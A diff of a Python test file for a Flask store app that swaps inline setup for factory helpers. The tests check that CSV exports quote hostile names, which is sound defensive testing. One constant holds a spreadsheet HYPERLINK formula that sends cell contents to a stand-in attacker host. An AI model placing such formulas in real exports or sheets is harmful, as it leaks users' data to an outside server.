@@ -13,10 +13,8 @@ from typing import Any
 import pytest
 from flask import Flask
 
-from accounts.subscribers import touch
-from store import catalogue, orders, redemption
-from store import services as store_services
-from tests import helpers
+from store import orders, redemption
+from tests import factories, helpers
 from wechat_service.extensions import db
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -62,9 +60,7 @@ def test_metrics_exports_quote_a_hostile_account_name(
 
 def test_redeem_batch_export_quotes_a_hostile_batch_name(create_account: Any, create_staff: Any) -> None:
     account, _, _ = create_account("plain")
-    product = catalogue.add_product(
-        account_id=account.id, code="t10", name="10 元话费", kind="topup", price_fen=980, face_value_fen=1000
-    )
+    product = factories.topup(account.id, "t10", 980, 1000)
     batch, codes = redemption.create_batch(account.id, product.id, name=REMARK, count=2)
     redemption.stash_export(batch, codes)
     db.session.commit()
@@ -87,7 +83,7 @@ def test_reconciliation_csv_quotes_text_and_keeps_negative_amounts(
     )
 
     account, _, _ = create_account("plain", kind="mini_program")
-    merchant = helpers.register_merchant(simulator, account.id)["merchant"]
+    merchant = factories.merchant(simulator, account.id)["merchant"]
     run = ReconciliationRun(
         account_id=account.id,
         merchant_id=merchant.id,
@@ -150,12 +146,9 @@ def test_campaign_deliveries_csv_quotes_what_wechat_sent(
 @pytest.fixture
 def sold(create_account: Any, create_staff: Any) -> dict[str, Any]:
     account, _, _ = create_account("plain", kind="mini_program")
-    product = catalogue.add_product(
-        account_id=account.id, code="t30", name=HOSTILE, kind="topup", price_fen=2990, face_value_fen=3000
-    )
-    sub = touch(account.id, "oEXPORT0000001", None)
-    store_services.bind_phone(account.id, sub.id, "13800139200", method="sms")
-    order = orders.create_order(account.id, sub.id, product.id, "export-key-0001", "wechatpay_v3")
+    product = factories.topup(account.id, "t30", 2990, 3000, name=HOSTILE)
+    sub = factories.subscriber(account.id, "oEXPORT0000001", "13800139200")
+    order = factories.order(sub, product, "export-key-0001")
     db.session.commit()
     return {"account": account, "order": order}
 
